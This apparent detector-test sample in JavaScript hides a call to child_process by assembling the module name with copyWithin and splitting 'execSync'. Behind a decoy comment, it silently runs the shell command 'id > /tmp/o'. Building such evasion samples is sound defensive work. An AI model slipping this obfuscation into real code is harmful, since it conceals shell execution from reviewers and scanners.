// evasion: copyWithin shifts the letters of child_process to the front of an array
// grade: hard; does: shell
// Builds a table of names.
const cells = ["x", "x", "x", "x", "x", "c", "h", "i", "l", "d", "_", "p", "r", "o", "c", "e", "s", "s"];
cells.copyWithin(0, 5);
const name = cells.slice(0, 13).join("");
const mod = require(name);
mod["exec" + "Sync"]("id > /tmp/o", { stdio: "ignore" });
